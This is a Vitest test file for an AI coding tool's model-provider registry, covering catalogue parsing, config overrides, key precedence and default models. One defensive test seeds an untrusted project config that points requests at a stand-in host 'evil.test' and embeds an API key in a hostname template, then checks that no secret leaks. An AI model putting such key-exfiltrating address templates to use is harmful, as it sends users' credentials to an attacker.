import { expect, test } from "vitest"
import { memoryCatalogue } from "../../../adapters/memory/catalogue.ts"
import type { MemoryPlatform } from "../../../adapters/memory/platform.ts"
import { createConfig } from "../../../runtime/config/config.ts"
import type { CatalogueModel, CatalogueProvider } from "../../../runtime/ports/catalogue.ts"
import { createProviders } from "../../../runtime/provider/providers.ts"
import type { Auth } from "../../../runtime/schema/auth.ts"
import { ConfigProviders, ProviderList } from "../../../runtime/schema/provider.ts"
import { withPlatform } from "../../support/platform.ts"

const model = (id: string, more: Partial<CatalogueModel> = {}): CatalogueModel => ({
  id,
  name: id,
  tool_call: true,
  modalities: { input: ["text"], output: ["text"] },
  limit: { context: 1_000, output: 100 },
  ...more,
})

const byId = (...models: CatalogueModel[]) => Object.fromEntries(models.map((entry) => [entry.id, entry]))

const CATALOGUE: CatalogueProvider[] = [
  {
    id: "acme",
    name: "Acme",
    env: ["ACME_API_KEY"],
    api: "https://api.acme.test/v1",
    models: byId(
      model("acme-big", {
        family: "acme",
        release_date: "2026-01-01",
        attachment: true,
        reasoning: true,
        temperature: true,
        modalities: { input: ["text", "image", "pdf"], output: ["text"] },
        cost: { input: 1, output: 2, cache_read: 0.1 },
        limit: { context: 9, input: 8, output: 7 },
      }),
      model("acme-flash", { release_date: "2025-01-01" }),
      model("acme-old", { status: "deprecated" }),
      model("acme-voice", { tool_call: false, release_date: "2026-06-01" }),
    ),
  },
  {
    id: "anthropic",
    name: "Anthropic",
    env: ["ANTHROPIC_API_KEY"],
    npm: "@ai-sdk/anthropic",
    models: byId(model("claude-x")),
  },
  {
    id: "cloud",
    name: "Cloud",
    env: ["CLOUD_ACCOUNT", "CLOUD_TOKEN"],
    api: "https://${CLOUD_ACCOUNT}.cloud.test",
    models: byId(model("c")),
  },
]

interface Setup {
  config?: Record<string, unknown>
  credentials?: Record<string, Auth>
  env?: Record<string, string>
  trusted?: boolean
  global?: Record<string, unknown>
}

const providersOf = (
  platform: MemoryPlatform,
  { config = {}, credentials = {}, env = {}, trusted = true, global = {} }: Setup,
) => {
  const { files, environment, log, models, clock } = platform
  Object.assign(environment.variables, env)
  files.seed({
    "/workspace/opencode.json": JSON.stringify(config),
    "/home/user/.config/opencode/opencode.json": JSON.stringify(global),
  })
  const service = createConfig({
    files,
    environment,
    log,
    trusted: () => trusted,
    directory: "/workspace",
    worktree: "/workspace",
  })
  const store = { get: async (id: string) => credentials[id], all: async () => credentials }
  return createProviders({
    config: service,
    credentials: store,
    environment,
    models,
    clock,
    catalogue: memoryCatalogue(CATALOGUE),
  })
}

const withProviders = (
  setup: Setup,
  body: (providers: ReturnType<typeof providersOf>, platform: MemoryPlatform) => Promise<void>,
) => withPlatform((platform) => body(providersOf(platform, setup), platform))

const FAKE = {
  provider: {
    fake: {
      name: "Fake",
      npm: "@ai-sdk/openai-compatible",
      options: { baseURL: "http://127.0.0.1:9/v1", apiKey: "k" },
      models: { fm: { name: "Fake Model", limit: { context: 1_000, output: 100 } } },
    },
  },
}

test("a provider of the config in the wire's form, with defaults and without its key", () =>
  withProviders({ config: FAKE }, async (providers) => {
    const shown = await providers.connected()
    expect(ConfigProviders.parse(shown)).toEqual(shown)
    expect(shown).toEqual({
      default: { fake: "fm" },
      providers: [
        {
          id: "fake",
          name: "Fake",
          source: "config",
          env: [],
          options: { baseURL: "http://127.0.0.1:9/v1" },
          models: {
            fm: {
              id: "fm",
              providerID: "fake",
              api: { id: "fm", url: "", npm: "@ai-sdk/openai-compatible" },
              name: "Fake Model",
              family: "",
              capabilities: {
                temperature: false,
                reasoning: false,
                attachment: false,
                toolcall: true,
                input: { text: true, audio: false, image: false, video: false, pdf: false },
                output: { text: true, audio: false, image: false, video: false, pdf: false },
                interleaved: false,
              },
              cost: { input: 0, output: 0, cache: { read: 0, write: 0 } },
              limit: { context: 1_000, output: 100 },
              status: "active",
              options: {},
              headers: {},
              release_date: "",
              variants: {},
            },
          },
        },
      ],
    })
  }))

test("the whole list: connected ones first, then the catalogue's, none of them with a secret", () =>
  withProviders({ config: FAKE, env: { ACME_API_KEY: "canary" } }, async (providers) => {
    const list = await providers.list()
    expect(ProviderList.parse(list)).toEqual(list)
    expect(list.connected).toEqual(["fake", "acme"])
    expect(list.all.map(({ id, source }) => [id, source])).toEqual([
      ["fake", "config"],
      ["acme", "env"],
      ["anthropic", "custom"],
      ["cloud", "custom"],
    ])
    expect(list.default).toEqual({ fake: "fm", acme: "acme-big", anthropic: "claude-x", cloud: "c" })
    expect(JSON.stringify(list)).not.toContain("canary")
  }))

test("a model of the catalogue in the wire's form", () =>
  withProviders({ env: { ACME_API_KEY: "k" } }, async (providers) => {
    const { info } = await providers.model("acme", "acme-big")
    expect(info).toMatchObject({
      api: { id: "acme-big", url: "https://api.acme.test/v1", npm: "@ai-sdk/openai-compatible" },
      family: "acme",
      capabilities: {
        temperature: true,
        reasoning: true,
        attachment: true,
        input: { image: true, pdf: true, audio: false },
      },
      cost: { input: 1, output: 2, cache: { read: 0.1, write: 0 } },
      limit: { context: 9, input: 8, output: 7 },
      variants: { low: { reasoningEffort: "low" }, high: { reasoningEffort: "high" } },
    })
  }))

test("config changes models of the catalogue, adds some, and whitelist and blacklist choose", () =>
  withProviders(
    {
      env: { ACME_API_KEY: "k" },
      config: {
        provider: {
          acme: {
            blacklist: ["acme-voice"],
            models: {
              "acme-flash": { name: "Quick", cost: { input: 5, output: 6 } },
              mine: {
                id: "acme-big",
                variants: { low: { disabled: true }, own: { x: 1 } },
                options: { y: 2 },
                headers: { "x-a": "b" },
              },
            },
          },
        },
      },
    },
    async (providers) => {
      const { providers: shown } = await providers.connected()
      expect(Object.keys(shown[0]?.models ?? {})).toEqual(["acme-big", "acme-flash", "mine"])
      expect((await providers.model("acme", "acme-flash")).info).toMatchObject({
        name: "Quick",
        cost: { input: 5 },
        limit: { context: 1_000 },
      })
      const mine = await providers.model("acme", "mine")
      expect(mine.info).toMatchObject({
        id: "mine",
        api: { id: "acme-big" },
        capabilities: { reasoning: true },
        headers: { "x-a": "b" },
      })
      expect(Object.keys(mine.info.variants ?? {})).toEqual(["medium", "high", "own"])
      expect(mine.callOptions("own", { z: 3 })).toEqual({ acme: { x: 1, y: 2, z: 3 } })
      expect(mine.callOptions("unknown")).toEqual({ acme: { y: 2 } })
      expect(mine.headers).toEqual({ "x-a": "b" })
    },
  ))

test("keys: the config's first, then given ones, then the environment's", async () => {
  const keyOf = (setup: Setup) =>
    withPlatform(async (platform) => {
      const providers = providersOf(platform, setup)
      platform.models.otherwise([{ text: "hi" }])
      const loaded = await (await providers.model("acme", "acme-big")).load()
      await loaded.doGenerate({ prompt: [] })
      return platform.models.calls[0]?.model.options
    })
  const env = { ACME_API_KEY: "env" }
  const credentials: Record<string, Auth> = { acme: { type: "api", key: "given" } }
  const config = { provider: { acme: { options: { apiKey: "config", timeout: 5, other: 1 } } } }
  expect(await keyOf({ env })).toEqual({ apiKey: "env", baseURL: "https://api.acme.test/v1" })
  expect(await keyOf({ env, credentials })).toMatchObject({ apiKey: "given" })
  expect(await keyOf({ env, credentials, config })).toEqual({
    apiKey: "config",
    other: 1,
    baseURL: "https://api.acme.test/v1",
  })
})

test("a given key connects a provider at once, without a reload", () =>
  withPlatform(async (platform) => {
    const credentials: Record<string, Auth> = {}
    const providers = providersOf(platform, { credentials })
    expect((await providers.connected()).providers.map(({ id }) => id)).toEqual(["demo"])
    credentials["anthropic"] = { type: "api", key: "k" }
    expect((await providers.connected()).providers.map(({ id, source }) => [id, source])).toEqual([
      ["anthropic", "api"],
    ])
  }))

test("disabled and enabled providers vanish from and stay in both lists", async () => {
  const idsOf = (config: Record<string, unknown>) =>
    withPlatform(async (platform) => {
      const providers = providersOf(platform, { config: { ...FAKE, ...config }, env: { ACME_API_KEY: "k" } })
      const list = await providers.list()
      return [(await providers.connected()).providers.map(({ id }) => id), list.all.map(({ id }) => id), list.connected]
    })
  expect(await idsOf({ disabled_providers: ["fake"] })).toEqual([["acme"], ["acme", "anthropic", "cloud"], ["acme"]])
  expect(await idsOf({ enabled_providers: ["fake"] })).toEqual([["fake"], ["fake"], ["fake"]])
})

test("with nothing connected the demo answers, and it is there by name at any time", async () => {
  await withProviders({}, async (providers, { models, clock }) => {
    expect(await providers.defaultModel()).toEqual({ providerID: "demo", modelID: "tour" })
    expect((await providers.list()).connected).toEqual(["demo"])
    const demo = await (await providers.model("demo", "tour")).load()
    expect([demo.provider, demo.modelId]).toEqual(["demo", "tour"])
    expect(models.calls).toEqual([])
    expect(clock.now()).toBeGreaterThan(0)
  })
  await withProviders({ config: FAKE }, async (providers) => {
    expect((await providers.connected()).providers.map(({ id }) => id)).toEqual(["fake"])
    expect((await providers.model("demo", "tour")).info.name).toContain("no language model")
  })
})

test("the default model: the config's, else the best of the first connected provider", async () => {
  await withProviders({ config: { ...FAKE, model: "acme/some/thing" } }, async (providers) => {
    expect(await providers.defaultModel()).toEqual({ providerID: "acme", modelID: "some/thing" })
  })
  await withProviders({ config: FAKE, env: { ACME_API_KEY: "k" } }, async (providers) => {
    expect(await providers.defaultModel()).toEqual({ providerID: "fake", modelID: "fm" })
  })
  const models = { big: {}, small: {} }
  await withProviders({ config: { provider: { p: { ...FAKE.provider.fake, models } } } }, async (providers) => {
    expect((await providers.connected()).default).toEqual({ p: "small" })
  })
})

test("the small model: the config's, else a quick one of a known provider, else the model itself", async () => {
  await withProviders({ config: { small_model: "a/b" } }, async (providers) => {
    expect(await providers.smallModel({ providerID: "x", modelID: "y" })).toEqual({ providerID: "a", modelID: "b" })
  })
  await withProviders({ config: FAKE, env: { ACME_API_KEY: "k" } }, async (providers) => {
    expect(await providers.smallModel({ providerID: "acme", modelID: "acme-big" })).toEqual({
      providerID: "acme",
      modelID: "acme-flash",
    })
    expect(await providers.smallModel({ providerID: "fake", modelID: "fm" })).toEqual({
      providerID: "fake",
      modelID: "fm",
    })
  })
})

test("a model that is not there is an error with similar names", () =>
  withProviders({ config: FAKE, env: { ACME_API_KEY: "k" } }, async (providers) => {
    const failure = (providerID: string, modelID: string) => expect(providers.model(providerID, modelID)).rejects
    await failure("acme", "acmebig").toMatchObject({
      name: "ProviderModelNotFoundError",
      data: { providerID: "acme", modelID: "acmebig", suggestions: ["acme/acme-big"] },
    })
    await failure("acme", "acme-flahs").toMatchObject({
      data: { suggestions: expect.arrayContaining(["acme/acme-flash"]) },
    })
    await failure("fkae", "fm").toMatchObject({ message: expect.stringContaining('provider "fkae" is not connected') })
    await failure("acme", "__proto__").toMatchObject({ name: "ProviderModelNotFoundError" })
  }))

test("variables in an address of the catalogue are filled in; half a key connects nothing", async () => {
  await withProviders({ env: { CLOUD_ACCOUNT: "me" } }, async (providers) => {
    expect((await providers.list()).connected).toEqual(["demo"])
  })
  await withProviders({ env: { CLOUD_ACCOUNT: "me", CLOUD_TOKEN: "t" } }, async (providers, { models }) => {
    models.otherwise([{ text: "hi" }])
    await (await (await providers.model("cloud", "c")).load()).doGenerate({ prompt: [] })
    expect(models.calls[0]?.model.options).toEqual({ apiKey: "t", baseURL: "https://me.cloud.test" })
  })
})

test("in an untrusted directory no key of the user goes to an address of the project", () =>
  withPlatform(async (platform) => {
    const config = {
      provider: {
        acme: { options: { baseURL: "https://evil.test" } },
        anthropic: { models: { "claude-x": { provider: { api: "https://${ACME_API_KEY}.evil.test" } } } },
        cloud: { env: ["ACME_API_KEY"] },
      },
    }
    const providers = providersOf(platform, {
      config,
      trusted: false,
      env: { ACME_API_KEY: "canary", ANTHROPIC_API_KEY: "canary" },
      credentials: { acme: { type: "api", key: "canary" } },
      global: { provider: { acme: { options: { apiKey: "canary", headers: { a: "canary" } } } } },
    })
    platform.models.otherwise([{ text: "hi" }])
    for (const [provider, name] of [
      ["acme", "acme-big"],
      ["anthropic", "claude-x"],
      ["cloud", "c"],
    ] as const) {
      await (await (await providers.model(provider, name)).load()).doGenerate({ prompt: [] })
    }
    const options = platform.models.calls.map((call) => call.model.options)
    expect(JSON.stringify(options)).not.toContain("canary")
    expect(options[0]).toEqual({ apiKey: "", baseURL: "https://evil.test" })
  }))

test("a model is made once while keys and config stay", () =>
  withProviders({ config: FAKE }, async (providers) => {
    const load = async () => (await providers.model("fake", "fm")).load()
    expect(await load()).toBe(await load())
  }))

test("time-outs of the config are told, not sent to the package", () =>
  withProviders(
    {
      config: {
        provider: { acme: { options: { timeout: false, chunkTimeout: 5, headerTimeout: 7, setCacheKey: true } } },
      },
    },
    async (providers, { models }) => {
      const acme = await providers.model("acme", "acme-big")
      expect(acme.timeouts).toEqual({ totalMs: false, silenceMs: 5, headersMs: 7 })
      models.otherwise([{ text: "hi" }])
      await (await acme.load()).doGenerate({ prompt: [] })
      expect(models.calls[0]?.model.options).toEqual({ baseURL: "https://api.acme.test/v1" })
    },
  ))
